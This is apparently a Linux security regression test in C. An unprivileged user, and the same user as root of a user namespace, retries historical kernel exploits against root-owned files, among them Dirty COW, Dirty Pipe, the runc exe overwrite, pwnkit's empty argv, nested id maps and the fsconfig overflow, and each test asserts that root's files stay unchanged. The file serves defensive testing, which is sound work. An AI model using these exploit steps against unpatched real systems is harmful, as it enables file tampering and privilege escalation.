// SPDX-License-Identifier: MIT
/*
 * Two parties: user 1000, plain and then with every capability in a user namespace of his own,
 * against what is root's; and a referee, who compares what root has before and after. Each TEST is
 * a class of attack (docs/threat-model.md). proves: execve splice vmsplice madvise ptrace unshare
 * fsconfig waitid
 */
#define TEST_LIMIT 100
#include "t.h"
#include <grp.h>
#include <linux/futex.h>
#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/uio.h>

#define FILE_OF_ROOT "/tmp/roots"
#define SECRET "/tmp/secret"
#define PROGRAM "/tmp/program"
#define GROUP_DIR "/tmp/group"

static const char *const victims[] = { FILE_OF_ROOT, SECRET, PROGRAM, GROUP_DIR };
#define VICTIMS (sizeof(victims) / sizeof(victims[0]))

static bool in_namespace;	/* the attacker is root of his own */

/* ---- the victims ---- */

static void write_all(const char *path, const char *text, mode_t mode)
{
	int fd = OK(open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0600));

	for (int i = 0; i < 1000; i++)
		EQ(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	close(fd);
	OK(chmod(path, mode));
}

static void copy_self(const char *path, mode_t mode)
{
	int from = OK(open("/proc/self/exe", O_RDONLY | O_CLOEXEC)),
	    to = OK(open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0700));

	while (OK(sendfile(to, from, NULL, 1 << 20)) > 0)
		;
	close(from);
	close(to);
	OK(chmod(path, mode));
}

static void stage(void)
{
	OK(unshare(CLONE_NEWNS));
	OK(mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL));
	OK(mount("tmpfs", "/tmp", "tmpfs", 0, "mode=1777"));
	write_all(FILE_OF_ROOT, "all may read this\n", 0644);
	write_all(SECRET, "nobody may read this\n", 0600);
	copy_self(PROGRAM, 0755);
	OK(mkdir(GROUP_DIR, 0700));
	OK(chmod(GROUP_DIR, 02777));
}

/* ---- the referee ---- */

struct state {
	uint64_t sum;
	struct stat st;
};

static struct state look_at(const char *path)
{
	struct state s = { .sum = 14695981039346656037ULL };
	unsigned char b[4096];
	int fd = OK(open(path, O_RDONLY | O_CLOEXEC));
	ssize_t n;

	OK(fstat(fd, &s.st));
	while (S_ISREG(s.st.st_mode) && (n = OK((int)read(fd, b, sizeof(b)))) > 0)
		for (ssize_t i = 0; i < n; i++)
			s.sum = (s.sum ^ b[i]) * 1099511628211ULL;
	close(fd);
	return s;
}

/* A directory that all may write to has new entries and times; whose it is, and its mode, stay. */
static void compare(const char *path, const struct state *was)
{
	struct state is = look_at(path);

	EQ(is.sum, was->sum);
	EQ(is.st.st_mode, was->st.st_mode);
	EQ(is.st.st_uid, was->st.st_uid);
	EQ(is.st.st_gid, was->st.st_gid);
	EQ(is.st.st_ino, was->st.st_ino);
	if (S_ISDIR(was->st.st_mode))
		return;
	EQ(is.st.st_size, was->st.st_size);
	EQ(is.st.st_nlink, was->st.st_nlink);
	EQ(is.st.st_mtim.tv_nsec, was->st.st_mtim.tv_nsec);
	EQ(is.st.st_ctim.tv_nsec, was->st.st_ctim.tv_nsec);
}

/* ---- the attacker ---- */

static void put(const char *path, const char *text)
{
	int fd = OK(open(path, O_WRONLY | O_CLOEXEC));

	EQ(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	close(fd);
}

static void become_user(void)
{
	OK(setgroups(0, NULL));
	OK(setgid(1000));
	OK(setuid(1000));
	OK(prctl(PR_SET_DUMPABLE, 1));
}

static void become_root_of_a_namespace(void)
{
	become_user();
	OK(unshare(CLONE_NEWUSER | CLONE_NEWNS));
	put("/proc/self/setgroups", "deny");
	put("/proc/self/uid_map", "0 1000 1");
	put("/proc/self/gid_map", "0 1000 1");
	in_namespace = true;
}

static void play(void (*attack)(void))
{
	struct state before[VICTIMS];
	pid_t pid;

	stage();
	for (unsigned int i = 0; i < VICTIMS; i++)
		before[i] = look_at(victims[i]);
	for (int ns = 0; ns < 2; ns++) {
		pid = OK(fork());
		if (!pid) {
			if (ns)
				become_root_of_a_namespace();
			else
				become_user();
			attack();
			_exit(0);
		}
		CHECK(t_child_ok(pid));
		for (unsigned int i = 0; i < VICTIMS; i++)
			compare(victims[i], &before[i]);
	}
}

/* The referee sees what he is there for. */
TEST(the_referee_notices)
{
	struct state s;
	int fd, gone;
	pid_t pid;

	stage();
	s = look_at(FILE_OF_ROOT);
	fd = OK(open(FILE_OF_ROOT, O_WRONLY));
	EQ(pwrite(fd, "A", 1, 0), 1);
	CHECK(look_at(FILE_OF_ROOT).sum != s.sum);
	gone = OK(open("/dev/null", O_WRONLY));
	pid = OK(fork());
	if (!pid) {
		OK(dup2(gone, 1));
		OK(dup2(gone, 2));
		compare(FILE_OF_ROOT, &s);
		_exit(0);
	}
	CHECK(!t_child_ok(pid));
}

/* ---- copy on write ---- */

struct race {
	char *map;
	size_t size;
	volatile bool over;
};

static void *keep_dropping(void *arg)
{
	struct race *r = arg;

	while (!r->over)
		madvise(r->map, r->size, MADV_DONTNEED);
	return NULL;
}

/*
 * A write to a private page, while the page is dropped: it never reaches the file (CVE-2016-5195).
 */
static void write_to_private_pages(void)
{
	int fd = OK(open(FILE_OF_ROOT, O_RDONLY)), mem = OK(open("/proc/self/mem", O_RDWR));
	struct race r = { .size = 4 * PAGE };
	char *own;
	pthread_t t;

	r.map = mmap(NULL, r.size, PROT_READ, MAP_PRIVATE, fd, 0);
	own = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	CHECK(own != MAP_FAILED);
	CHECK(r.map != MAP_FAILED);
	EQ(pthread_create(&t, NULL, keep_dropping, &r), 0);
	for (int i = 0; i < 500; i++) {
		ssize_t n = pwrite(mem, "attacker", 8, (off_t)(uintptr_t)r.map + i % 4 * PAGE);

		/* Linux may keep writes against the protection for tracers */
		CHECK(n == 8 || (n < 0 && errno == EIO));
		EQ(pwrite(mem, "attacker", 8, (off_t)(uintptr_t)own), 8);
		madvise(own, PAGE, MADV_DONTNEED);
	}
	r.over = true;
	EQ(pthread_join(t, NULL), 0);
	close(mem);
	close(fd);
}

TEST(private_mapping_of_a_file_that_may_only_be_read)
{
	play(write_to_private_pages);
}

/* Nor does one to a shared mapping of what was opened for reading (CVE-2022-2590). */
static void write_to_shared_pages(void)
{
	int fd = OK(open(FILE_OF_ROOT, O_RDONLY)), mem = OK(open("/proc/self/mem", O_RDWR));
	char *map = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, fd, 0);
	struct iovec l = { (char[]){ "attacker" }, 8 }, v = { map, 8 };

	CHECK(map != MAP_FAILED);
	ERR(mprotect(map, PAGE, PROT_READ | PROT_WRITE), EACCES);
	CHECK(pwrite(mem, "attacker", 8, (off_t)(uintptr_t)map) < 0);
	ERR(syscall(SYS_process_vm_writev, getpid(), &l, 1UL, &v, 1UL, 0UL), EFAULT);
	ERR(read(OK(open("/dev/zero", O_RDONLY)), map, 8), EFAULT);
	ERR(syscall(SYS_futex, map, FUTEX_WAKE_OP, 1, 1UL, map, 0x00001000), EFAULT);
}

TEST(shared_mapping_of_a_file_that_may_only_be_read)
{
	play(write_to_shared_pages);
}

/*
 * A page that a pipe refers to is not written by who is left alone with its mapping
 * (CVE-2020-29374).
 */
static void parent_by_a_pipe(void)
{
	char *p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), c;
	int data[2], ready[2], go[2];
	pid_t pid;

	CHECK(p != MAP_FAILED);
	memset(p, 'a', PAGE);
	OK(pipe(data));
	OK(pipe(ready));
	OK(pipe(go));
	pid = OK(fork());
	if (!pid) {
		struct iovec v = { p, PAGE };

		EQ(vmsplice(data[1], &v, 1, 0), PAGE);
		OK(munmap(p, PAGE));
		EQ(write(ready[1], "x", 1), 1);
		EQ(read(go[0], &c, 1), 1);
		EQ(read(data[0], &c, 1), 1);
		_exit(c != 'a');
	}
	EQ(read(ready[0], &c, 1), 1);
	memset(p, 's', PAGE);		/* the parent's secret */
	EQ(write(go[1], "x", 1), 1);
	CHECK(t_child_ok(pid));
}

TEST(memory_of_the_parent_by_a_pipe)
{
	play(parent_by_a_pipe);
}

/* ---- pipes ---- */

/* What is written to a pipe is not joined to a page that came from a file (CVE-2022-0847). */
static void write_behind_a_spliced_byte(void)
{
	int fd = OK(open(FILE_OF_ROOT, O_RDONLY)), p[2];
	static char b[65536];
	loff_t off = 0;

	OK(pipe(p));
	/* Every slot of the ring has been one that may be written to. */
	for (int i = 0; i < 3; i++) {
		EQ(write(p[1], b, sizeof(b)), sizeof(b));
		EQ(read(p[0], b, sizeof(b)), sizeof(b));
	}
	EQ(splice(fd, &off, p[1], NULL, 1, 0), 1);
	EQ(write(p[1], "ttacker", 7), 7);
	EQ(read(p[0], b, sizeof(b)), 8);
	CHECK(!memcmp(b, "attacker", 8));
	off = 1;
	EQ(sendfile(p[1], fd, &off, 1), 1);
	EQ(write(p[1], "attacker", 8), 8);
}

TEST(write_to_a_pipe_behind_a_page_of_a_file)
{
	play(write_behind_a_spliced_byte);
}

/* ---- programs ---- */

/* A program that runs is not written to by way of the process (CVE-2019-5736). */
static void write_to_the_program(void)
{
	int gone[2], path, fd;
	char name[64], c;
	pid_t pid;

	OK(pipe2(gone, O_CLOEXEC));
	pid = OK(fork());
	if (!pid) {
		execle(PROGRAM, "program", NULL, (char *[]){ "ATTACKED=wait", NULL });
		_exit(99);
	}
	close(gone[1]);
	EQ(read(gone[0], &c, 1), 0);		/* it has executed */
	snprintf(name, sizeof(name), "/proc/%d/exe", pid);
	path = OK(open(name, O_PATH));
	CHECK(open(name, O_WRONLY) < 0 && (errno == EACCES || errno == ETXTBSY));
	CHECK(open(name, O_RDWR | O_TRUNC) < 0 && (errno == EACCES || errno == ETXTBSY));
	CHECK(truncate(name, 0) < 0 && (errno == EACCES || errno == ETXTBSY));
	CHECK(chmod(name, 04755) < 0 && errno == EPERM);
	snprintf(name, sizeof(name), "/proc/self/fd/%d", path);
	CHECK(open(name, O_WRONLY) < 0 && (errno == EACCES || errno == ETXTBSY));
	fd = OK(open(name, O_RDONLY));
	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	CHECK(open(name, O_WRONLY) < 0 && (errno == EACCES || errno == ETXTBSY));
	ERR(write(fd, "x", 1), EBADF);
	OK(kill(pid, SIGKILL));
	t_wait(pid);
}

TEST(the_program_that_a_process_runs)
{
	play(write_to_the_program);
}

/*
 * A program is never without a first argument: what follows the arguments is the environment
 * (CVE-2021-4034).
 */
static void without_arguments(void)
{
	char *none[] = { NULL }, *envp[] = { "ATTACKED=count", NULL };
	pid_t pid = OK(fork());

	if (!pid) {
		execve(PROGRAM, none, envp);
		_exit(99);
	}
	EQ(t_wait(pid), 1 << 8);
	pid = OK(fork());
	if (!pid) {
		syscall(SYS_execve, PROGRAM, NULL, envp);
		_exit(99);
	}
	EQ(t_wait(pid), 1 << 8);
}

/* What the attacker executes, before main(). */
__attribute__((constructor)) static void be_executed(void)
{
	const char *a = getenv("ATTACKED");
	char b[16];

	if (a && !strcmp(a, "wait"))
		for (;;)
			pause();
	if (a && !strcmp(a, "count"))
		_exit(read(open("/proc/self/cmdline", O_RDONLY), b, sizeof(b)) == 1 && !b[0] ? 1 :
											       2);
}

TEST(a_program_without_arguments)
{
	play(without_arguments);
}

/* ---- who asks, and who holds the descriptor ---- */

/*
 * An id map is written with the rights of who opened it too: a program with rights writes where it
 * was told to (CVE-2023-2002's class).
 */
TEST(an_id_map_written_by_who_may)
{
	int up[2], down[2], fd, passed[2];
	char path[40], c;
	pid_t pid, opener;

	stage();
	OK(pipe(up));
	OK(pipe(down));
	pid = OK(fork());
	if (!pid) {
		become_user();
		OK(unshare(CLONE_NEWUSER));
		EQ(write(up[1], "x", 1), 1);
		EQ(read(down[0], &c, 1), 1);
		EQ(open(SECRET, O_RDONLY), -1);
		EQ(geteuid(), 65534);
		_exit(0);
	}
	EQ(read(up[0], &c, 1), 1);
	snprintf(path, sizeof(path), "/proc/%d/uid_map", pid);
	/* User 1000 opens it; the descriptor is shared with us. */
	OK(pipe(passed));
	opener = OK((pid_t)syscall(SYS_clone, (unsigned long)CLONE_FILES | SIGCHLD, NULL, NULL,
				   NULL, NULL));
	if (!opener) {
		if (syscall(SYS_setgid, 1000) || syscall(SYS_setuid, 1000) ||
		    prctl(PR_SET_DUMPABLE, 1))
			_exit(99);
		fd = open(path, O_WRONLY);
		if (write(passed[1], &fd, sizeof(fd)) != sizeof(fd))
			_exit(98);
		_exit(0);
	}
	EQ(read(passed[0], &fd, sizeof(fd)), sizeof(fd));
	CHECK(t_child_ok(opener));
	OK(fd);
	ERR(write(fd, "0 0 1", 5), EPERM);
	close(fd);
	EQ(write(down[1], "x", 1), 1);
	CHECK(t_child_ok(pid));
}

/* ---- id maps ---- */

static void in_the_inner_one(int up, int down)
{
	struct stat st;
	char c;

	OK(unshare(CLONE_NEWUSER));
	EQ(write(up, "x", 1), 1);
	EQ(read(down, &c, 1), 1);
	OK(setresgid(0, 0, 0));
	OK(setresuid(0, 0, 0));
	CHECK(open(SECRET, O_RDONLY) < 0 && errno == EACCES);
	CHECK(chmod(FILE_OF_ROOT, 0666) < 0 && errno == EPERM);
	CHECK(chown(FILE_OF_ROOT, 0, 0) < 0 && errno == EPERM);
	OK(stat(FILE_OF_ROOT, &st));
	EQ(st.st_uid, 65534);
	close(OK(open("/tmp/inner", O_CREAT | O_WRONLY, 0600)));
	_exit(0);
}

static void in_the_outer_one(int up, int down)
{
	int in_up[2], in_down[2];
	char path[40], c;
	pid_t pid;

	become_user();
	OK(unshare(CLONE_NEWUSER));
	EQ(write(up, "x", 1), 1);
	EQ(read(down, &c, 1), 1);
	OK(setresgid(0, 0, 0));
	OK(setresuid(0, 0, 0));
	OK(prctl(PR_SET_DUMPABLE, 1));
	OK(pipe(in_up));
	OK(pipe(in_down));
	pid = OK(fork());
	if (!pid)
		in_the_inner_one(in_up[1], in_down[0]);
	EQ(read(in_up[0], &c, 1), 1);
	snprintf(path, sizeof(path), "/proc/%d/uid_map", pid);
	put(path, "0 0 1\n1 1 1\n2 2 1\n3 3 1\n4 4 1\n5 5 995\n");
	snprintf(path, sizeof(path), "/proc/%d/gid_map", pid);
	put(path, "0 0 1\n1 1 1\n2 2 1\n3 3 1\n4 4 1\n5 5 995\n");
	EQ(write(in_down[1], "x", 1), 1);
	CHECK(t_child_ok(pid));
	_exit(0);
}

/*
 * Ids of a namespace in a namespace go through both maps, however many lines they have
 * (CVE-2018-18955).
 */
TEST(id_maps_in_id_maps)
{
	int up[2], down[2];
	char path[40], c;
	struct stat st;
	struct state s, t;
	pid_t pid;

	stage();
	s = look_at(SECRET);
	t = look_at(FILE_OF_ROOT);
	OK(pipe(up));
	OK(pipe(down));
	pid = OK(fork());
	if (!pid)
		in_the_outer_one(up[1], down[0]);
	EQ(read(up[0], &c, 1), 1);
	snprintf(path, sizeof(path), "/proc/%d/uid_map", pid);
	put(path, "0 100000 1000");
	snprintf(path, sizeof(path), "/proc/%d/gid_map", pid);
	put(path, "0 100000 1000");
	EQ(write(down[1], "x", 1), 1);
	CHECK(t_child_ok(pid));
	compare(SECRET, &s);
	compare(FILE_OF_ROOT, &t);
	OK(stat("/tmp/inner", &st));
	EQ(st.st_uid, 100000);
}

/* ---- groups of directories ---- */

/* A program of the directory's group is not made by who is not in it (CVE-2018-13405). */
static void file_of_the_group(void)
{
	struct stat st;
	int fd;

	umask(0);
	fd = OK(open(GROUP_DIR "/f", O_CREAT | O_EXCL | O_RDWR, 02777));
	OK(fstat(fd, &st));
	EQ(st.st_mode & 07777, 0777);
	OK(fchmod(fd, 02777));
	OK(fstat(fd, &st));
	EQ(st.st_mode & 07777, 0777);
	close(fd);
	OK(unlink(GROUP_DIR "/f"));
	OK(mknod(GROUP_DIR "/n", S_IFREG | 02777, 0));
	OK(stat(GROUP_DIR "/n", &st));
	EQ(st.st_mode & 07777, 0777);
	OK(unlink(GROUP_DIR "/n"));
	/* Without a name (CVE-2021-4037's neighbour). */
	fd = open(GROUP_DIR, O_TMPFILE | O_RDWR, 02777);
	if (fd >= 0) {
		OK(fstat(fd, &st));
		EQ(st.st_mode & 07777, 0777);
		close(fd);
	}
}

TEST(a_file_of_somebody_elses_group)
{
	play(file_of_the_group);
}

/* ---- tracing ---- */

/* A tracer does not switch a filter off (CVE-2022-30594). */
static void without_the_filter(void)
{
	pid_t pid = OK(fork());

	if (!pid) {
		for (;;)
			pause();
	}
	CHECK(ptrace(PTRACE_SEIZE, pid, 0, 1UL << 21 /* PTRACE_O_SUSPEND_SECCOMP */) < 0);
	OK(ptrace(PTRACE_SEIZE, pid, 0, 0));
	OK(ptrace(PTRACE_INTERRUPT, pid, 0, 0));
	EQ(waitpid(pid, NULL, 0), pid);
	CHECK(ptrace(PTRACE_SETOPTIONS, pid, 0, 1UL << 21) < 0);
	OK(kill(pid, SIGKILL));
	t_wait(pid);
}

TEST(filters_stay_on)
{
	play(without_the_filter);
}

/* ---- results that go to the kernel ---- */

/* Where a result is to be written is asked of every call that writes one (CVE-2017-5123). */
static void results_for_the_kernel(void)
{
	static const unsigned long at[] = { 0xffff888000001000UL, 0xffffffff80100000UL,
					    0xffff800000000000UL, ~0UL - 4095 };

	for (unsigned int i = 0; i < sizeof(at) / sizeof(at[0]); i++) {
		pid_t pid = OK(fork());

		if (!pid)
			_exit(0);
		ERR(syscall(SYS_waitid, P_PID, pid, at[i], WEXITED | WNOWAIT, NULL), EFAULT);
		ERR(syscall(SYS_waitid, P_PID, pid, NULL, WEXITED | WNOWAIT, at[i]), EFAULT);
		ERR(syscall(SYS_wait4, pid, NULL, WNOHANG, at[i]), EFAULT);
		ERR(syscall(SYS_getresuid, at[i], at[i], at[i]), EFAULT);
		ERR(syscall(SYS_getrusage, 0, at[i]), EFAULT);
		waitpid(pid, NULL, 0);
	}
}

TEST(results_at_addresses_of_the_kernel)
{
	play(results_for_the_kernel);
}

/* ---- low addresses ---- */

/*
 * What may not be mapped is not grown into either, by the program or by who writes to its memory
 * (CVE-2019-9213).
 */
static void stack_towards_zero(void)
{
	int fd = OK(open("/proc/sys/vm/mmap_min_addr", O_RDONLY)),
	    mem = OK(open("/proc/self/mem", O_RDWR));
	unsigned long low;
	char b[32] = "";
	pid_t pid;
	char *p;

	CHECK(OK((int)read(fd, b, sizeof(b) - 1)) > 0);
	low = strtoul(b, NULL, 10);
	CHECK(low >= PAGE);
	p = mmap((void *)low, PAGE, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED | MAP_GROWSDOWN, -1, 0);
	CHECK(p == (char *)low);
	for (unsigned long at = 0; at < low; at += PAGE)
		CHECK(pwrite(mem, "x", 1, (off_t)at) < 0);
	pid = OK(fork());
	if (!pid) {
		*(volatile char *)(p - PAGE) = 1;
		_exit(0);
	}
	EQ(t_wait(pid) & 0x7f, SIGSEGV);
}

TEST(a_stack_grows_towards_zero)
{
	play(stack_towards_zero);
}

/* ---- options of mounts ---- */

/* Options add up to no more than there is room for (CVE-2022-0185). */
static void long_options(void)
{
	static char value[257];
	int fd = (int)syscall(SYS_fsopen, "ramfs", 0);

	if (fd < 0) {
		CHECK(errno == EPERM || errno == ENODEV);
		fd = (int)syscall(SYS_fsopen, "tmpfs", 0);
		if (fd < 0) {
			CHECK(!in_namespace && errno == EPERM);
			return;
		}
	}
	memset(value, 'A', 256);
	for (int i = 0; i < 100; i++)
		(void)syscall(SYS_fsconfig, fd, 1 /* FSCONFIG_SET_STRING */, "\0", value, 0);
	for (int i = 0; i < 100; i++)
		(void)syscall(SYS_fsconfig, fd, 1, "context", value, 0);
	(void)syscall(SYS_fsconfig, fd, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0);
	close(fd);
}

TEST(options_without_end)
{
	play(long_options);
}

/* ---- what is bound over what ---- */

/*
 * In a mount namespace of his own the attacker mounts over root's files; outside nothing is seen of
 * it, and a read-only mount of root's stays so.
 */
static void mount_over(void)
{
	if (!in_namespace) {
		ERR(mount("none", "/tmp", "tmpfs", 0, NULL), EPERM);
		ERR(mount(FILE_OF_ROOT, SECRET, NULL, MS_BIND, NULL), EPERM);
		ERR(umount2("/tmp", MNT_DETACH), EPERM);
		return;
	}
	ERR(umount2("/tmp", MNT_DETACH), EINVAL);  /* came with the namespace: locked */
	OK(mount(FILE_OF_ROOT, SECRET, NULL, MS_BIND, NULL));
	CHECK(open(SECRET, O_WRONLY) < 0 && errno == EACCES);
	OK(mount("none", "/tmp", "tmpfs", 0, NULL));
	close(OK(open("/tmp/roots", O_CREAT | O_WRONLY, 0666)));
	ERR(mknod("/tmp/mem", S_IFCHR | 0666, 0x101), EPERM);
}

TEST(mounts_of_a_namespace_stay_in_it)
{
	play(mount_over);
}
